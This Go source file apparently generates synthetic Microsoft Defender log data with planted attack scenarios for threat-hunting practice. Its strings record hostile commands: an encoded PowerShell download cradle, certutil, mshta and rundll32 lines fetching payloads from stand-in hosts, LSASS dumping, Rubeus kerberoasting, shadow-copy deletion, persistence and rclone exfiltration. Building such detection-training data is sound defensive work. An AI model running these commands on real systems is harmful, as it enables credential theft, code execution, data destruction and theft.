package samples

import (
	"encoding/base64"
	"fmt"
	"strings"
	"unicode/utf16"
)

// plannedStory is an attack placed in the window.
type plannedStory struct {
	Story
	at  int64
	run func(g *gen, at int64)
}

// Indicators the stories use; hunts look for them.
const (
	phishDomain   = "micros0ft-passwordreset.com"
	payloadHost   = "cdn-update-check.xyz"
	sprayIP       = "45.155.205.233"
	lolbinIP      = "185.220.101.47"
	lolbinHost    = "static-content-delivery.top"
	exfilDomain   = "files-sync-storage.top"
	oauthAppName  = "Mail Backup Pro"
	oauthAppID    = "7f6b0d5e-3c2a-4f8e-9b1d-2a6c5e4f3d21"
	implantFile   = "update.exe"
	ransomExt     = ".locked"
	ransomNote    = "README_RESTORE_FILES.txt"
	malwareSHA256 = "9f2c1d7e4b8a6f3c5d0e1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d"
)

// encodedPowerShell is PowerShell's -EncodedCommand form: UTF-16LE, base64.
func encodedPowerShell(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// planStories picks victims and days for the attacks: spread over the last two
// weeks of the window, in working hours.
func (g *gen) planStories() []plannedStory {
	w := g.world
	var wks []*device
	for _, d := range w.devices {
		if d.owner != nil {
			wks = append(wks, d)
		}
	}
	if len(wks) == 0 {
		return nil
	}
	victim := func(i int) *device { return wks[(i*7+int(g.o.Seed%5))%len(wks)] }
	server := func(i int) *device {
		if len(w.servers) == 0 {
			return victim(i + 1)
		}
		for _, s := range w.servers {
			if !s.dc {
				return s
			}
		}
		return w.servers[0]
	}
	defs := []storyDef{
		{"phish-powershell", "Phishing link clicked, then an encoded PowerShell download cradle", "InitialAccess", "T1566.002",
			func() string { return victim(0).owner.upn }, func(g *gen, at int64) { g.storyPhish(victim(0), at) }},
		{"lsass-dump", "LSASS memory dumped with comsvcs.dll MiniDump", "CredentialAccess", "T1003.001",
			func() string { return victim(1).name }, func(g *gen, at int64) { g.storyLsass(victim(1), at) }},
		{"kerberoasting", "Kerberoasting: SPN enumeration and service tickets requested with Rubeus", "CredentialAccess", "T1558.003",
			func() string { return victim(2).name }, func(g *gen, at int64) { g.storyKerberoast(victim(2), at) }},
		{"password-spray", "Password spray against many accounts from one address, one success", "CredentialAccess", "T1110.003",
			func() string { return sprayIP }, func(g *gen, at int64) { g.storySpray(at) }},
		{"lateral-psexec", "Lateral movement with a remotely created service (PsExec)", "LateralMovement", "T1569.002",
			func() string { return server(0).name }, func(g *gen, at int64) { g.storyLateral(victim(3), server(0), at) }},
		{"persistence-task-runkey", "Persistence through a scheduled task and a Run key", "Persistence", "T1053.005",
			func() string { return victim(4).name }, func(g *gen, at int64) { g.storyPersistence(victim(4), at) }},
		{"ransomware-shadowcopy", "Shadow copies deleted, then files encrypted and a ransom note dropped", "Impact", "T1490",
			func() string { return victim(5).name }, func(g *gen, at int64) { g.storyRansom(victim(5), at) }},
		{"lolbin-abuse", "certutil, mshta and rundll32 used to fetch and run a payload", "DefenseEvasion", "T1218",
			func() string { return victim(6).name }, func(g *gen, at int64) { g.storyLolbins(victim(6), at) }},
		{"oauth-consent", "A user consents to a malicious OAuth app that then reads mail", "CredentialAccess", "T1528",
			func() string { return victim(7).owner.upn }, func(g *gen, at int64) { g.storyOAuth(victim(7).owner, at) }},
		{"exfil-rare-domain", "Files archived and uploaded with rclone to a rare domain", "Exfiltration", "T1567.002",
			func() string { return victim(8).name }, func(g *gen, at int64) { g.storyExfil(victim(8), at) }},
		{"recon-discovery", "Account and domain discovery with whoami, net and nltest", "Discovery", "T1087.002",
			func() string { return victim(9).name }, func(g *gen, at int64) { g.storyDiscovery(victim(9), at) }},
	}
	defs = append(defs, moreStories(victim)...)
	span := int64(min(g.o.Days, 14)) * day
	var out []plannedStory
	for i, d := range defs {
		dayStart := g.end - span + span*int64(i)/int64(len(defs))
		dayStart -= dayStart % day
		at := dayStart + 10*hour + int64(i%6)*hour + int64(g.rng.IntN(3600))*second
		if at >= g.end {
			at = g.end - 2*hour
		}
		if at < g.start {
			at = g.start + hour
		}
		out = append(out, plannedStory{Story: Story{Name: d.name, Title: d.title, Tactic: d.tactic, Technique: d.technique,
			Entity: d.entity(), Start: ticksTime(at)}, at: at, run: d.run})
	}
	return out
}

// alert writes an AlertInfo row and its evidence about a device.
func (g *gen) alert(at int64, title, category, severity, technique string, d *device, evidence func(id string)) {
	id := fmt.Sprintf("da%016x_%d", g.rng.Uint64(), g.rng.IntN(1_000_000_000))
	g.row("AlertInfo", at).str("AlertId", id).str("Title", title).str("Category", category).str("Severity", severity).
		str("ServiceSource", "Microsoft Defender for Endpoint").str("DetectionSource", "EDR").
		str("AttackTechniques", fmt.Sprintf(`["%s"]`, technique)).done()
	if d != nil {
		g.row("AlertEvidence", at).str("AlertId", id).str("Title", title).str("Categories", fmt.Sprintf(`["%s"]`, category)).
			str("AttackTechniques", fmt.Sprintf(`["%s"]`, technique)).str("ServiceSource", "Microsoft Defender for Endpoint").
			str("DetectionSource", "EDR").str("EntityType", "Machine").str("EvidenceRole", "Impacted").
			str("DeviceId", d.id).str("DeviceName", d.name).str("LocalIP", d.ip).str("Severity", severity).done()
	}
	if evidence != nil {
		evidence(id)
	}
}

func (g *gen) evidenceProcess(at int64, id, title string, p *proc) {
	g.row("AlertEvidence", at).str("AlertId", id).str("Title", title).str("EntityType", "Process").str("EvidenceRole", "Related").
		str("FileName", p.img.file).str("FolderPath", p.img.folder).str("SHA1", p.img.sha1).str("SHA256", p.img.sha256).
		str("ProcessCommandLine", p.cmd).str("ServiceSource", "Microsoft Defender for Endpoint").done()
}

// tool is an attacker's or a system binary at a path.
func tool(file, folder, company, desc string, signed bool) *image {
	im := img(file, folder, company, desc, desc, 0)
	if !signed {
		im.signer, im.company = "", ""
	}
	return im
}

func (g *gen) sys(file string) *image {
	if im := g.world.byName[strings.ToLower(file)]; im != nil {
		return im
	}
	folder := win32
	if file == "powershell.exe" {
		folder = win32 + `WindowsPowerShell\v1.0\`
	}
	im := tool(file, folder, "Microsoft Corporation", strings.TrimSuffix(file, ".exe"), true)
	g.world.byName[strings.ToLower(file)] = im
	return im
}

func (g *gen) storyPhish(d *device, at int64) {
	u := d.owner
	url := "https://" + phishDomain + "/account/verify?u=" + strings.Split(u.name, ".")[0]
	id, _ := g.mail(u, at, phishDomain, "Action required: your password expires today", url, true)
	g.row("UrlClickEvents", at+4*minute).str("Url", url).str("ActionType", "ClickAllowed").str("AccountUpn", u.upn).
		str("Workload", "Email").str("NetworkMessageId", id).str("IPAddress", officeIP).boolean("IsClickedThrough", true).
		str("UrlChain", fmt.Sprintf(`["%s"]`, url)).done()
	g.zap(u, id, at+2*hour, "Phish ZAP", "Phish")
	outlook := g.spawn(d, g.sys("OUTLOOK.EXE"), `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`, d.explorer, u, at-20*minute)
	edge := g.spawn(d, g.sys("msedge.exe"), `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument `+url, outlook, u, at+4*minute)
	g.connect(d, edge, at+4*minute+2*second, phishDomain, ipFor(phishDomain), 443, "ConnectionSuccess")
	g.fileEvent(d, edge, at+5*minute, "FileCreated", "PasswordReset.hta", userPath(`C:\Users\%USER%\Downloads\`, u), url, 4_812)
	mshta := g.spawn(d, g.sys("mshta.exe"), userPath(`"C:\Windows\System32\mshta.exe" "C:\Users\%USER%\Downloads\PasswordReset.hta"`, u), d.explorer, u, at+6*minute)
	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/s/a.ps1')", payloadHost)
	ps := g.spawn(d, g.sys("powershell.exe"), "powershell.exe -NoP -W Hidden -NonI -Enc "+encodedPowerShell(script), mshta, u, at+6*minute+3*second)
	g.connect(d, ps, at+6*minute+5*second, payloadHost, ipFor(payloadHost), 80, "ConnectionSuccess")
	g.row("DeviceEvents", at+6*minute+4*second).initiating(d, ps).str("ActionType", "PowerShellCommand").
		dyn("AdditionalFields", `{"Command":"IEX"}`).done()
	g.fileEvent(d, ps, at+6*minute+9*second, "FileCreated", implantFile, `C:\Users\Public\`, "http://"+payloadHost+"/s/"+implantFile, 241_664)
	g.alert(at+7*minute, "Suspicious PowerShell download cradle", "Execution", "High", "T1059.001", d, func(id string) {
		g.evidenceProcess(at+7*minute, id, "Suspicious PowerShell download cradle", ps)
	})
}

func (g *gen) storyLsass(d *device, at int64) {
	u := g.world.admins[0]
	cmd := g.spawn(d, g.sys("cmd.exe"), `"C:\Windows\system32\cmd.exe"`, d.explorer, u, at)
	lsass := g.newProc(d, g.sys("lsass.exe"), `C:\Windows\system32\lsass.exe`, d.system, nil, g.start-day)
	dump := g.spawn(d, g.sys("rundll32.exe"), fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Windows\Temp\lsass.dmp full`, lsass.pid), cmd, u, at+40*second)
	g.row("DeviceEvents", at+41*second).initiating(d, dump).str("ActionType", "OpenProcessApiCall").str("FileName", "lsass.exe").
		str("FolderPath", `C:\Windows\System32\lsass.exe`).long("ProcessId", lsass.pid).dyn("AdditionalFields", `{"DesiredAccess":2097151}`).done()
	g.fileEvent(d, dump, at+43*second, "FileCreated", "lsass.dmp", `C:\Windows\Temp\`, "", 48_222_208)
	g.alert(at+2*minute, "Possible credential dumping: LSASS memory read", "CredentialAccess", "High", "T1003.001", d, func(id string) {
		g.evidenceProcess(at+2*minute, id, "Possible credential dumping: LSASS memory read", dump)
	})
}

func (g *gen) storyKerberoast(d *device, at int64) {
	u := d.owner
	rubeus := tool("Rubeus.exe", `C:\Users\Public\`, "", "Rubeus", false)
	ps := g.spawn(d, g.sys("powershell.exe"), "powershell.exe", d.explorer, u, at-time2(3))
	p := g.spawn(d, rubeus, `C:\Users\Public\Rubeus.exe kerberoast /outfile:C:\Users\Public\hashes.txt /nowrap`, ps, u, at)
	dc := d
	if len(g.world.dcs) > 0 {
		dc = g.world.dcs[0]
	}
	g.row("IdentityQueryEvents", at+second).str("ActionType", "LDAP query").str("Application", "Active Directory").
		str("QueryType", "AllUsers").str("QueryTarget", "").str("Query", "(&(samAccountType=805306368)(servicePrincipalName=*))").
		str("Protocol", "Ldap").str("AccountName", u.name).str("AccountDomain", domainDNS).str("AccountUpn", u.upn).
		str("AccountSid", u.sid).str("AccountObjectId", u.objectID).str("AccountDisplayName", u.display).str("DeviceName", d.name).
		str("IPAddress", d.ip).long("Port", 50123).str("DestinationDeviceName", dc.name).str("DestinationIPAddress", dc.ip).
		long("DestinationPort", 389).done()
	for i, svc := range g.world.svc {
		t := at + int64(2+i)*second
		g.connect(d, p, t, "", dc.ip, 88, "ConnectionSuccess")
		g.row("IdentityLogonEvents", t).str("ActionType", "LogonSuccess").str("Application", "Active Directory").
			str("LogonType", "Resource access").str("Protocol", "Kerberos").str("AccountName", u.name).str("AccountDomain", domainDNS).
			str("AccountUpn", u.upn).str("AccountSid", u.sid).str("AccountObjectId", u.objectID).str("AccountDisplayName", u.display).
			str("DeviceName", d.name).str("IPAddress", d.ip).str("DestinationDeviceName", dc.name).str("DestinationIPAddress", dc.ip).
			long("DestinationPort", 88).str("TargetAccountDisplayName", svc.name).
			dyn("AdditionalFields", fmt.Sprintf(`{"Spns":"MSSQLSvc/%s.%s:1433","EncryptionType":"Rc4Hmac"}`, svc.name, domainDNS)).done()
	}
	g.fileEvent(d, p, at+10*second, "FileCreated", "hashes.txt", `C:\Users\Public\`, "", 9_120)
}

func time2(minutes int64) int64 { return minutes * minute }

func (g *gen) storySpray(at int64) {
	users := g.world.users
	n := min(len(users), 40)
	for i := 0; i < n; i++ {
		g.signin(users[i], at+int64(i)*20*second, sprayIP, "50126", "Office 365 Exchange Online", "RU", true)
	}
	// One account had the sprayed password.
	g.signin(users[n/2], at+int64(n)*20*second+time2(2), sprayIP, "0", "Office 365 Exchange Online", "RU", true)
}

func (g *gen) storyLateral(src, dst *device, at int64) {
	admin := g.world.admins[1]
	psexec := tool("PsExec.exe", `C:\Users\Public\Tools\`, "Sysinternals - www.sysinternals.com", "Execute processes remotely", true)
	cmd := g.spawn(src, g.sys("cmd.exe"), `"cmd.exe"`, src.explorer, admin, at-time2(1))
	p := g.spawn(src, psexec, fmt.Sprintf(`PsExec.exe \\%s -accepteula -s cmd.exe /c "whoami & ipconfig"`, strings.Split(dst.name, ".")[0]), cmd, admin, at)
	g.connect(src, p, at+second, dst.name, dst.ip, 445, "ConnectionSuccess")
	g.row("DeviceLogonEvents", at+2*second).initiating(dst, dst.services).str("ActionType", "LogonSuccess").str("LogonType", "Network").
		str("AccountDomain", domainLow).str("AccountName", admin.name).str("AccountSid", admin.sid).
		str("Protocol", "NTLM").boolean("IsLocalAdmin", true).str("RemoteDeviceName", src.name).str("RemoteIP", src.ip).
		str("RemoteIPType", "Private").done()
	g.fileEvent(dst, dst.system, at+3*second, "FileCreated", "PSEXESVC.exe", `C:\Windows\`, "", 145_568)
	g.row("DeviceEvents", at+4*second).initiating(dst, dst.services).str("ActionType", "ServiceInstalled").
		str("FileName", "PSEXESVC.exe").str("FolderPath", `C:\Windows\PSEXESVC.exe`).str("AccountName", admin.name).
		dyn("AdditionalFields", `{"ServiceName":"PSEXESVC","ServiceAccount":"LocalSystem","ServiceType":"Service","ServiceStartType":3}`).done()
	svc := g.spawn(dst, tool("PSEXESVC.exe", `C:\Windows\`, "Sysinternals - www.sysinternals.com", "PsExec Service", true), `C:\Windows\PSEXESVC.exe`, dst.services, nil, at+5*second)
	c := g.spawn(dst, g.sys("cmd.exe"), `cmd.exe /c "whoami & ipconfig"`, svc, nil, at+6*second)
	g.spawn(dst, g.sys("whoami.exe"), "whoami", c, nil, at+7*second)
	g.alert(at+time2(1), "Suspicious service creation by a remote session (PsExec)", "LateralMovement", "Medium", "T1569.002", dst, nil)
}

func (g *gen) storyPersistence(d *device, at int64) {
	u := d.owner
	ps := g.spawn(d, g.sys("powershell.exe"), "powershell.exe -ExecutionPolicy Bypass", d.explorer, u, at-time2(2))
	g.fileEvent(d, ps, at-time2(1), "FileCreated", implantFile, `C:\Users\Public\`, "", 241_664)
	task := g.spawn(d, g.sys("schtasks.exe"), `schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Standalone Update Task" /tr "C:\Users\Public\update.exe" /f`, ps, u, at)
	g.row("DeviceEvents", at+second).initiating(d, task).str("ActionType", "ScheduledTaskCreated").
		dyn("AdditionalFields", `{"TaskName":"\\OneDrive Standalone Update Task","TaskContent":"C:\\Users\\Public\\update.exe"}`).done()
	reg := g.spawn(d, g.sys("reg.exe"), `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveUpdate /t REG_SZ /d "C:\Users\Public\update.exe" /f`, ps, u, at+time2(1))
	g.regEvent(d, reg, at+time2(1)+second, "RegistryValueSet", `HKEY_CURRENT_USER\`+u.sid+`\Software\Microsoft\Windows\CurrentVersion\Run`,
		"OneDriveUpdate", "REG_SZ", `C:\Users\Public\update.exe`)
}

func (g *gen) storyRansom(d *device, at int64) {
	u := g.world.admins[2]
	cmd := g.spawn(d, g.sys("cmd.exe"), `"cmd.exe"`, d.explorer, u, at-time2(5))
	g.spawn(d, g.sys("vssadmin.exe"), "vssadmin.exe delete shadows /all /quiet", cmd, u, at)
	g.spawn(d, g.sys("wmic.exe"), "wmic.exe shadowcopy delete", cmd, u, at+10*second)
	g.spawn(d, g.sys("bcdedit.exe"), "bcdedit.exe /set {default} recoveryenabled no", cmd, u, at+20*second)
	locker := tool("svchostsvc.exe", `C:\ProgramData\`, "", "", false)
	locker.sha256 = malwareSHA256
	p := g.spawn(d, locker, `C:\ProgramData\svchostsvc.exe --encrypt C:\Users`, cmd, u, at+time2(1))
	folder := userPath(`C:\Users\%USER%\Documents\`, d.owner)
	for i := 0; i < 120; i++ {
		name := fmt.Sprintf("%s%d.%s", []string{"Report", "Budget", "Contract", "Photo", "Plan"}[i%5], i, []string{"docx", "xlsx", "pdf", "jpg", "pptx"}[i%5])
		t := at + time2(1) + int64(i)*second/2
		r := g.row("DeviceFileEvents", t).initiating(d, p).str("ActionType", "FileRenamed").str("FileName", name+ransomExt).
			str("FolderPath", folder+name+ransomExt).str("PreviousFileName", name).str("PreviousFolderPath", folder+name).long("FileSize", 100_000+int64(i)*731)
		r.done()
	}
	g.fileEvent(d, p, at+time2(3), "FileCreated", ransomNote, folder, "", 1_204)
	g.alert(at+time2(2), "Ransomware behavior: shadow copies deleted and files encrypted", "Ransomware", "High", "T1486", d, func(id string) {
		g.evidenceProcess(at+time2(2), id, "Ransomware behavior: shadow copies deleted and files encrypted", p)
	})
}

func (g *gen) storyLolbins(d *device, at int64) {
	u := d.owner
	cmd := g.spawn(d, g.sys("cmd.exe"), `"cmd.exe"`, d.explorer, u, at-time2(1))
	url := "http://" + lolbinIP + "/p.exe"
	cu := g.spawn(d, g.sys("certutil.exe"), `certutil.exe -urlcache -split -f `+url+` C:\Users\Public\p.exe`, cmd, u, at)
	g.connect(d, cu, at+second, "", lolbinIP, 80, "ConnectionSuccess")
	g.fileEvent(d, cu, at+2*second, "FileCreated", "p.exe", `C:\Users\Public\`, url, 98_304)
	mshta := g.spawn(d, g.sys("mshta.exe"), `mshta.exe http://`+lolbinHost+`/launcher.hta`, cmd, u, at+time2(2))
	g.connect(d, mshta, at+time2(2)+second, lolbinHost, ipFor(lolbinHost), 80, "ConnectionSuccess")
	g.spawn(d, g.sys("rundll32.exe"), `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://`+lolbinHost+`/r.sct")`, mshta, u, at+time2(3))
}

func (g *gen) storyOAuth(u *user, at int64) {
	consent := fmt.Sprintf(`,"ApplicationId":"%s","ApplicationName":"%s","Permissions":"Mail.Read Mail.ReadWrite offline_access User.Read"`, oauthAppID, oauthAppName)
	g.row("CloudAppEvents", at).str("ActionType", "Consent to application.").str("Application", "Microsoft 365").
		long("ApplicationId", 11161).str("AccountObjectId", u.objectID).str("AccountId", u.objectID).str("AccountDisplayName", u.display).
		boolean("IsAdminOperation", false).str("IPAddress", officeIP).str("CountryCode", u.country).str("ActivityType", "Add").
		str("ObjectName", oauthAppName).str("ObjectType", "Application").str("ObjectId", oauthAppID).str("OAuthAppId", oauthAppID).
		dyn("RawEventData", fmt.Sprintf(`{"Operation":"Consent to application.","UserId":"%s"%s}`, u.upn, consent)).done()
	for i := 0; i < 25; i++ {
		g.row("CloudAppEvents", at+time2(10)+int64(i)*time2(3)).str("ActionType", "MailItemsAccessed").str("Application", "Microsoft Exchange Online").
			long("ApplicationId", 20893).str("AccountObjectId", u.objectID).str("AccountId", u.objectID).str("AccountDisplayName", u.display).
			str("IPAddress", "52.174.23.9").str("CountryCode", "NL").str("ActivityType", "Basic").str("ObjectType", "Mailbox").
			str("OAuthAppId", oauthAppID).dyn("RawEventData", fmt.Sprintf(`{"Operation":"MailItemsAccessed","UserId":"%s","AppId":"%s","ClientAppId":"%s"}`, u.upn, oauthAppID, oauthAppID)).done()
	}
}

func (g *gen) storyExfil(d *device, at int64) {
	u := d.owner
	cmd := g.spawn(d, g.sys("cmd.exe"), `"cmd.exe"`, d.explorer, u, at-time2(10))
	sevenZip := tool("7z.exe", `C:\Program Files\7-Zip\`, "Igor Pavlov", "7-Zip Console", true)
	z := g.spawn(d, sevenZip, `7z.exe a -t7z -pInfected123 -mhe=on C:\Users\Public\q3.7z "\\srv-file-01\finance$\Q3"`, cmd, u, at-time2(8))
	g.fileEvent(d, z, at-time2(6), "FileCreated", "q3.7z", `C:\Users\Public\`, "", 1_874_329_600)
	rclone := tool("rclone.exe", `C:\Users\Public\`, "https://rclone.org", "Rsync for cloud storage", false)
	p := g.spawn(d, rclone, `rclone.exe copy C:\Users\Public\q3.7z remote:backup --transfers 16 --config C:\Users\Public\rc.conf`, cmd, u, at)
	for i := 0; i < 40; i++ {
		g.connect(d, p, at+int64(i)*15*second, exfilDomain, ipFor(exfilDomain), 443, "ConnectionSuccess")
	}
}

func (g *gen) storyDiscovery(d *device, at int64) {
	u := d.owner
	cmd := g.spawn(d, g.sys("cmd.exe"), `"cmd.exe"`, d.explorer, u, at-time2(1))
	for i, c := range []struct{ file, cmd string }{
		{"whoami.exe", "whoami /all"},
		{"net.exe", `net group "Domain Admins" /domain`},
		{"net.exe", `net user /domain`},
		{"nltest.exe", "nltest /dclist:corp.contoso.com"},
		{"net.exe", `net localgroup administrators`},
		{"systeminfo.exe", "systeminfo"},
	} {
		g.spawn(d, g.sys(c.file), c.cmd, cmd, u, at+int64(i)*7*second)
	}
}
